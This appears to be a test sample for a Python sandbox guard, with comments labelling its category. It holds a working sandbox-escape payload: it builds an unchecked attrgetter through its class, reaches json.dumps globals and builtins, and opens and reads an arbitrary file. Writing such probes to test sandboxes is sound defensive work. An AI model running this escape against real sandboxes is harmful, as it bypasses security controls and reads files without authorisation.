# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: the class of an attrgetter makes one that nobody checked
import operator
getter = type(operator.attrgetter("real"))
return "ESCAPED " + getter("__globals__")(json.dumps)["__builtins__"]["open"](inputs["file"]).read()
